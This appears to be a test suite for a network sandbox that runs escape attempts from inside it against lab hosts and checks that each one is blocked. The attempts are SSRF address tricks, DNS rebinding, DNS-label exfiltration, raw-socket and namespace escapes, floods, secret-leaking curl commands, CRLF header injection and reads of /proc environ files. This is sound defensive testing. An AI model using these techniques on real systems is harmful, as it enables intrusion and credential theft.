import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test'
import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { BINARY, eventually, processesWith } from './kit.ts'
import { filesWith, LAB_TOKEN, LONGEST_MS, NetworkWorld, NO_LAB, RAW, readLog, SKIPPED } from './network-kit.ts'

setDefaultTimeout(LONGEST_MS)

describe.skipIf(NO_LAB !== undefined)(`attacks on the network from inside${SKIPPED}`, () => {
  let world: NetworkWorld
  beforeAll(async () => {
    world = await NetworkWorld.start()
  })
  afterAll(() => world?.close())

  const SECRET = ['-S', 'TESTKEY:api.lab.test'] as const
  const inside = async (flags: readonly string[], text: string): Promise<unknown[]> => world.python(flags, RAW + text)
  const log = (name: string): string => join(world.lab.folder, `attack-${name}.jsonl`)
  /** Exit status and output of a shell line, whatever it is. */
  const shell = async (flags: readonly string[], text: string): Promise<string> => {
    const { stdout, stderr } = await world.run([...flags, '--', 'sh', '-c', text])
    return stdout + stderr
  }

  describe('names and addresses', () => {
    test.concurrent('S42 of a name with a public and a private address only the public one is dialled', async () => {
      const file = log('two')
      await shell(['--network-log', file], 'for i in 1 2 3 4 5 6; do curl -s http://two.lab.test/echo?two; done')
      const dialled = readLog(file).flatMap(({ kind, status }) => (kind === 'http' ? [status] : []))
      expect(dialled).toEqual([200, 200, 200, 200, 200, 200])
      expect(new Set(world.seen('?two').map(({ at }) => at.replace('::ffff:', '')))).toEqual(new Set(['44.44.44.10']))
    })

    test.concurrent('S42 a name whose answer changes gets nobody to a private address', async () => {
      await inside(
        [],
        `for _ in range(12):
    attempt(lambda: raw(b"GET /echo?flip HTTP/1.1\\r\\nHost: flip.dns.test\\r\\nConnection: close\\r\\n\\r\\n", host="flip.dns.test"))`,
      )
      expect(world.asked('flip.dns.test').length).toBeGreaterThan(0)
      expect(world.seen('?flip').filter(({ at }) => at.endsWith('10.77.0.10'))).toEqual([])
    })

    test.concurrent('S43 addresses in decimal, octal and hex are what they mean, or no name at all', async () => {
      const forms = [
        '172818442',
        '0x0a4d000a',
        '012.0115.0.012',
        '10.77.10',
        '0xA.0x4D.0.0xA',
        '2852039166',
        '[::ffff:a4d:a]',
        '[::ffff:10.77.0.10]',
      ]
      const said = await shell([], forms.map((form) => `curl -s -m 5 'http://${form}/echo?forms' || true`).join('\n'))
      expect(said).not.toContain('"host"')
      expect(world.seen('?forms')).toEqual([])
      // As names they never leave the gateway.
      const asked = await shell(
        [],
        forms
          .slice(0, 5)
          .map((form) => `dig +short +tries=1 '${form}'`)
          .join('\n'),
      )
      expect(asked).not.toContain('198.1')
      expect(forms.slice(0, 5).flatMap((form) => world.asked(form.toLowerCase()))).toEqual([])
    })

    test.concurrent('S43 a trailing dot, capitals and punycode are read once, the same way everywhere', async () => {
      const said = await shell(
        ['--allow', 'api.lab.test', '--block', 'other.lab.test', '--allow', 'xn--bcher-kva.lab.test'],
        `for host in api.lab.test. API.LAB.TEST other.lab.test. OTHER.lab.test. other.lab.test xn--pi-6kc.lab.test xn--bcher-kva.lab.test.evil.test; do
          echo "$host $(curl -s -m 5 -o /dev/null -w '%{http_code}' http://$host/echo?spelled)"
        done
        echo "host header $(curl -s -o /dev/null -w '%{http_code}' -H 'Host: аpi.lab.test' http://api.lab.test/)"`,
      )
      expect(said.split('\n').slice(0, 8)).toEqual([
        'api.lab.test. 200',
        'API.LAB.TEST 200',
        'other.lab.test. 403',
        'OTHER.lab.test. 403',
        'other.lab.test 403',
        'xn--pi-6kc.lab.test 403',
        'xn--bcher-kva.lab.test.evil.test 403',
        expect.stringMatching(/host header 4(00|21)/),
      ])
    })

    test.concurrent('S45 a redirect to where nobody may go ends there', async () => {
      const said = await shell(
        [],
        `for to in http://169.254.169.254/echo http://10.77.0.10/echo http://private.lab.test/echo http://44.44.44.1/; do
          curl -s -L -m 5 "http://api.lab.test/redirect?to=$to"
        done`,
      )
      expect(said).not.toContain('"host":"1')
      expect(said).not.toContain('"host":"private')
    })
  })

  describe('other ways out', () => {
    test.concurrent('S41 no raw sockets, no ping, no other protocol, no device, no namespace with a network of its own', async () => {
      const said = await inside(
        ['--network', 'public'],
        `def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(2); s.sendto(b"\\x08" + bytes(7), ("44.44.44.10", 0)); return s.recv(99).hex()
say(attempt(ping))
say(attempt(lambda: str(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))))
say(attempt(lambda: str(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))))
say(attempt(lambda: str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW))))
say(attempt(lambda: str(socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("44.44.44.10", 80)))))
say(attempt(lambda: str(socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))))
say(attempt(lambda: str(open("/dev/net/tun", "r+b"))))
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNET, CLONE_NEWUSER = 0x40000000, 0x10000000
for flags in (CLONE_NEWNET, CLONE_NEWUSER | CLONE_NEWNET):
    say("made" if libc.unshare(flags) == 0 else errno.errorcode[ctypes.get_errno()])
say("made" if os.path.exists("/dev/net") and libc.mknod(b"/tmp/tun", 0o20666, os.makedev(10, 200)) == 0 else "no")
say(os.system("ip link add x type dummy 2>/dev/null; ip route add default dev lo 2>/dev/null; ip addr add 44.44.44.9/24 dev lo 2>/dev/null") != 0)`,
      )
      const [pinged, icmp, raw, packet, sctp, vsock, tun, net, user, node, links] = said
      for (const got of [pinged, icmp, raw, packet, sctp, vsock, tun, net, user]) expect(got).toMatch(/^E[A-Z]+$/)
      expect([node, links]).toEqual(['no', true])
    })

    test.concurrent('S44 other name servers and QUIC are refused at once', async () => {
      const said = await inside(
        [],
        `def datagram(host, port, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3); s.connect((host, port)); start = time.monotonic(); s.send(data)
        try: got = s.recv(99).hex()
        except OSError as error: got = errno.errorcode.get(error.errno, str(error))
        return [got, time.monotonic() - start < 1]
question = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x0a1-2-3-4-out\\3dns\\4test\\0\\0\\1\\0\\1"
say(datagram("44.44.44.53", 53, question))
say(datagram("api.lab.test", 443, b"\\xc0\\0\\0\\0\\1" + bytes(1300)))
say(datagram("api.lab.test", 5000, b"\\xc0\\0\\0\\0\\1" + bytes(1300)))
say(datagram("api.lab.test", 5000, b"plain"))
say(attempt(lambda: str(socket.create_connection(("44.44.44.53", 53), 3))))
say(attempt(lambda: str(socket.create_connection(("44.44.44.53", 853), 3))))`,
      )
      const refused = ['ECONNREFUSED', true]
      expect(said).toEqual([refused, refused, refused, [Buffer.from('plain').toString('hex'), true], 'ECONNREFUSED', 'ECONNREFUSED'])
      expect(world.asked('1-2-3-4-out')).toEqual([])
    })

    test.concurrent('S44 names that are not allowed are not looked up: nothing gets out by asking', async () => {
      await shell(
        ['--allow', 'api.lab.test', '--allow', '*.lab.test'],
        `for type in A AAAA TXT MX NULL ANY; do
          dig +tries=1 +time=2 stolen-data-in-a-label.dns.test $type >/dev/null
          dig +tries=1 +time=2 +tcp stolen-data-in-a-label.dns.test $type >/dev/null
        done
        curl -s http://stolen-data-in-a-label.dns.test/ >/dev/null
        getent hosts stolen-data-in-a-label.dns.test >/dev/null; true`,
      )
      expect(world.asked('stolen-data')).toEqual([])
    })

    test.concurrent('process 1 cannot be killed from inside, and the network stays', async () => {
      const said = await shell(
        ['--allow', 'api.lab.test'],
        'for signal in KILL STOP TERM HUP INT; do kill -$signal 1; done; curl -s http://api.lab.test/bytes/4',
      )
      expect(said).toContain('xxxx')
    })
  })

  describe('floods', () => {
    test.concurrent('S51 of SYNs: bounded, and the network works afterwards', async () => {
      const said = await inside(
        ['--allow', 'api.lab.test:*', '--allow', '44.44.44.10/31:*'],
        `import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
sockets = []
for index in range(3000):
    try:
        s = socket.socket(); s.setblocking(False); s.connect_ex((f"44.44.44.{10 + index % 3}", 6000 + index)); sockets.append(s)
    except OSError: break
say(len(sockets) > 500)
for s in sockets: s.close()
def fetch():
    return raw(b"GET /bytes/1 HTTP/1.1\\r\\n" + H + b"\\r\\n")
answers = []
for _ in range(20):
    answers.append(attempt(fetch))
    if answers[-1] == [200]: break
    time.sleep(0.5)
say(answers[-1])`,
      )
      expect(said).toEqual([true, [200]])
    })

    test.concurrent('S51 of names: bounded, and names are found afterwards', async () => {
      const said = await inside(
        ['--allow', '*.dns.test', '--allow', 'api.lab.test'],
        `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("198.18.0.1", 53))
for index in range(6000):
    label = b"flood%d-nothing" % index if index % 2 else b"44-44-44-%d" % (index % 250)
    try: s.send(b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0" + bytes([len(label)]) + label + b"\\3dns\\4test\\0\\0\\1\\0\\1")
    except OSError: pass
time.sleep(1)
say(raw(b"GET /bytes/1 HTTP/1.1\\r\\n" + H + b"\\r\\n"))
say(socket.gethostbyname("44-44-44-11.dns.test").startswith("198.1"))`,
      )
      expect(said).toEqual([[200], true])
    })
  })

  describe('secrets', () => {
    test.concurrent('S49 a placeholder on its way to another host is blocked, and reported', async () => {
      const flags = [...SECRET, '--placeholder-secrets', '--allow', 'other.lab.test', '--network-log', log('placeholder')]
      const { stdout, stderr } = await world.run([
        ...[...flags, '--', 'sh', '-c'],
        `ask() { curl -s -o /dev/null -w '%{http_code} ' "$@"; }
        basic=$(printf 'me:%s' "$TESTKEY" | base64 -w0)
        ask -H "Authorization: Bearer $TESTKEY" http://other.lab.test/echo?leak
        ask -H "Authorization: Basic $basic" http://other.lab.test/echo?leak
        ask -d "$TESTKEY" http://other.lab.test/echo?leak
        ask "http://other.lab.test/echo?leak=$TESTKEY"
        ask -H "X-Key: $TESTKEY" https://api.lab.test/echo?right
        printf '\\001%s' "$TESTKEY" | timeout 3 curl -s telnet://other.lab.test:80 >/dev/null; true`,
      ])
      expect(stdout).toMatch(/^(403|000) (403|000) (403|000) (403|000) 200 $/)
      expect(stderr).toMatch(/placeholder/)
      expect(world.seen('leak').map(({ url }) => url)).toEqual([])
      expect(JSON.stringify(readLog(log('placeholder')))).toMatch(/placeholder/)
      const right = world.seen('?right')
      expect(right.map(({ headers }) => headers['x-key'])).toEqual([LAB_TOKEN])
    })

    test.concurrent('neither names of headers nor values can bring a header of their own', async () => {
      for (const header of ['X-Key\r\nEvil', 'X-Key: a\nEvil', 'X Key', 'Host', 'Transfer-Encoding']) {
        const { code, stdout } = await world.run(['-S', `TESTKEY:api.lab.test:${header}`, '--', 'echo', 'ran'])
        expect([header, code, stdout]).toEqual([header, 2, ''])
      }
      const env = { TESTKEY: 'value\r\nEvil: 1\r\n\r\nGET /echo?evil HTTP/1.1' }
      await world.run([...SECRET, '--', 'curl', '-s', '--http1.1', 'https://api.lab.test/echo?lines'], { env })
      expect(world.seen('?evil')).toEqual([])
      expect(world.seen('?lines').filter(({ headers }) => 'evil' in headers)).toEqual([])
    })

    test.concurrent('S48 the value is nowhere but at its host: not inside, not in processes, not in files', async () => {
      const key = join(world.lab.folder, 'key.txt')
      writeFileSync(key, LAB_TOKEN)
      const file = log('value')
      const mark = 'look-for-the-value'
      const args = ['run', '-v', '-S', `TESTKEY=@${key}:api.lab.test`, '--network-log', file, '--', 'sh', '-c']
      const text = `: ${mark}; curl -s https://api.lab.test/echo?value; env; curl -s http://other.lab.test/
        cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; grep -rs ${LAB_TOKEN.slice(0, 9)} /run /etc /tmp /home /workspace; echo waiting; read line`
      const { TESTKEY: _, ...env } = world.user.env
      const child = Bun.spawn(world.near([BINARY, ...args, text]), { env, stdin: 'pipe', stdout: 'pipe', stderr: 'pipe' })
      let said = ''
      const reading = (async () => {
        for await (const part of child.stdout) said += Buffer.from(part).toString()
      })()
      await eventually(() => said.includes('waiting'), 'the command waits')
      expect(placesOf(LAB_TOKEN, child.pid)).toEqual([])
      void child.stdin.write('\n')
      void child.stdin.end()
      await child.exited
      await reading
      expect(said + (await new Response(child.stderr).text())).not.toContain(LAB_TOKEN)
      expect(readFileSync(file, 'utf8')).not.toContain(LAB_TOKEN)
      expect(filesWith(world.user.home, LAB_TOKEN)).toEqual([])
      expect(world.seen('?value').map(({ authorization }) => authorization)).toEqual([`Bearer ${LAB_TOKEN}`])
    })
  })

  test('S50 killing the gateway leaves no network and nothing else behind', async () => {
    const mark = `killed-${process.pid}`
    const text = `: ${mark}; while :; do curl -s http://api.lab.test/echo?${mark} >/dev/null; sleep 0.05; done`
    const child = Bun.spawn(world.near([BINARY, 'run', '--allow', 'api.lab.test', '--', 'sh', '-c', text]), {
      env: world.user.env,
      stdin: 'ignore',
      stdout: 'ignore',
      stderr: 'ignore',
    })
    await eventually(() => world.seen(mark).length > 2, 'requests arrive')
    child.kill('SIGKILL')
    await child.exited
    await eventually(() => processesWith(mark).length === 0, 'everything inside has ended')
    const count = world.seen(mark).length
    expect((await world.run(['--allow', 'api.lab.test', '--', 'curl', '-s', 'http://api.lab.test/bytes/2'])).stdout).toBe('xx')
    expect(world.seen(mark)).toHaveLength(count)
    expect(world.user.leftFolders()).toEqual([])
  })
})

/** Processes below `root` whose environment or arguments have `text` in them. */
function placesOf(text: string, root: number): string[] {
  const parents = new Map<number, number>()
  for (const name of readdirSync('/proc').filter((entry) => /^\d+$/.test(entry))) {
    const stat = read(`/proc/${name}/stat`)
    parents.set(Number(name), Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]))
  }
  const isBelow = (pid: number): boolean => pid === root || (pid > 1 && isBelow(parents.get(pid) ?? 0))
  return [...parents.keys()]
    .filter(isBelow)
    .flatMap((pid) => ['environ', 'cmdline'].map((name) => `/proc/${pid}/${name}`))
    .filter((path) => read(path).includes(text))
}

function read(path: string): string {
  try {
    return readFileSync(path, 'latin1')
  } catch {
    // It ended while we looked.
    return ''
  }
}
